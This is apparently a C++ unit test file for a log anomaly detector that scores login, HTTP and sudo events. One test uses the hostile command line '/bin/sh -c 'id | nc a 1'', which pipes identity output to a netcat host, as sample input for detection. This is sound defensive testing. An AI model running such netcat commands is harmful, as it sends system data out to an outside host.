#include "anomaly/activity.h"

#include "anomaly/text_shape.h"

#include <doctest/doctest.h>

#include <memory>
#include <string>

namespace vedette::anomaly {
namespace {

/// One event, filled as decoders do.
struct Made {
  EventBatch batch{fields_read()};

  explicit Made(Action action) {
    Event& event = batch.begin("a line");
    batch.set_action(action);
    event.time = Time{std::chrono::seconds{1'800'000'000}};
  }
  Made& text(Field field, std::string_view value) {
    batch.set(field, value);
    return *this;
  }
  Made& integer(Field field, std::int64_t value) {
    batch.set(field, value);
    return *this;
  }
  Made& ip(std::string_view address) {
    batch.set(Field::SourceIp, *parse_ip(address));
    return *this;
  }
  Activity activity() {
    batch.end();
    const Event& event = batch.events().back();
    PathShapes paths;
    return activity_of(batch, event, Entities(batch, event), paths);
  }
};

Activity from(std::string_view address) {
  return Made(Action::FailedPassword).ip(address).activity();
}

TEST_SUITE("anomaly/activity") {
  TEST_CASE("a refused login says who, from where, and that it failed") {
    const Activity activity = Made(Action::FailedPassword)
                                  .ip("192.0.2.7")
                                  .text(Field::UserName, "root")
                                  .text(Field::HostName, "web1")
                                  .activity();
    CHECK(activity.time_ns == 1'800'000'000'000'000'000);
    CHECK(activity.failed());
    CHECK_FALSE(activity.notable);
    CHECK(activity.weight == 1);
    for (const Facet facet : {Facet::User, Facet::Source, Facet::Network, Facet::Host}) {
      CHECK(activity.facet(facet) != 0);
    }
    for (const Facet facet : {Facet::Port, Facet::Path, Facet::Agent, Facet::Command}) {
      CHECK(activity.facet(facet) == 0);
    }
    CHECK_FALSE(activity.has_request);
  }

  TEST_CASE("an IPv6 source is its /64, a network the /16, of IPv6 the /32") {
    const auto source = [](std::string_view address) { return from(address).facet(Facet::Source); };
    const auto network = [](std::string_view address) {
      return from(address).facet(Facet::Network);
    };
    CHECK(source("2001:db8:1:2::1") == source("2001:db8:1:2::ffff"));
    CHECK(source("2001:db8:1:2::1") != source("2001:db8:1:3::1"));
    CHECK(network("2001:db8:1:2::1") == network("2001:db8:9:9::1"));
    CHECK(network("2001:db8::1") != network("2001:db9::1"));
    CHECK(source("192.0.2.1") != source("192.0.2.2"));
    CHECK(network("192.0.2.1") == network("192.0.9.1"));
    CHECK(network("192.0.2.1") != network("192.1.2.1"));
  }

  TEST_CASE("a request says what it asked, how, and what came of it") {
    const Activity activity = Made(Action::HttpRequest)
                                  .ip("192.0.2.7")
                                  .text(Field::HttpMethod, "POST")
                                  .text(Field::UrlPath, "/a/17")
                                  .text(Field::UrlQuery, "q='")
                                  .text(Field::UserAgent, "curl/8.1")
                                  .integer(Field::HttpStatus, 404)
                                  .integer(Field::HttpBodyBytes, 1234)
                                  .activity();
    CHECK(activity.method == Method::Write);
    CHECK(activity.status_class == 4);
    CHECK(activity.bytes == 1234);
    CHECK(activity.facet(Facet::Path) == path_shape("/a/23").hash);
    CHECK(activity.path_depth == 2);
    CHECK(activity.path_entropy > 1);
    CHECK(activity.query_oddness == doctest::Approx(1.0 / 3));
    CHECK(activity.facet(Facet::Agent) != 0);
    CHECK(activity.has_request);
  }

  TEST_CASE("methods are those that read, those that write, and others") {
    const auto method = [](std::string_view text) {
      return Made(Action::HttpRequest).text(Field::HttpMethod, text).activity().method;
    };
    CHECK(method("GET") == Method::Read);
    CHECK(method("HEAD") == Method::Read);
    CHECK(method("DELETE") == Method::Write);
    CHECK(method("PROPFIND") == Method::Other);
    CHECK(method("get") == Method::Other);
    CHECK(method("") == Method::None);
  }

  TEST_CASE(
      "commands are known by their shape, and always worth a look where they are privileged") {
    const Activity activity = Made(Action::SudoCommand)
                                  .text(Field::UserName, "ann")
                                  .text(Field::ProcessCommandLine, "/bin/sh -c 'id | nc a 1'")
                                  .activity();
    CHECK(activity.notable);
    CHECK(activity.facet(Facet::Command) == command_shape("sh -c 'id | nc b 2'").hash);
    CHECK(activity.command_oddness > 0);
    CHECK(is_notable(Action::AcceptedPassword));
    CHECK(is_notable(Action::HoneypotDownload));
    CHECK_FALSE(is_notable(Action::CronCommand));
    CHECK_FALSE(is_notable(Action::MailLogin));
    CHECK_FALSE(is_notable(Action::HttpRequest));
    CHECK_FALSE(is_notable(Action::None));
  }

  TEST_CASE("numbers that cannot be are taken as none") {
    const Activity activity = Made(Action::HttpRequest)
                                  .integer(Field::HttpStatus, 7777)
                                  .integer(Field::HttpBodyBytes, -5)
                                  .activity();
    CHECK(activity.status_class == 0);
    CHECK(activity.bytes == 0);
  }

  TEST_CASE("of two values of one field the first counts, as it does for find()") {
    const Activity one = Made(Action::SudoCommand)
                             .text(Field::ProcessCommandLine, "ls")
                             .text(Field::ProcessCommandLine, "rm")
                             .activity();
    CHECK(one.facet(Facet::Command) == command_shape("ls").hash);
  }

  TEST_CASE("only the fields that are said to be read are read") {
    const FieldSet fields = fields_read();
    CHECK(fields[index(Field::UrlPath)]);
    CHECK(fields[index(Field::SourceIp)]);
    CHECK_FALSE(fields[index(Field::HoneypotPassword)]);
  }
}

}  // namespace
}  // namespace vedette::anomaly
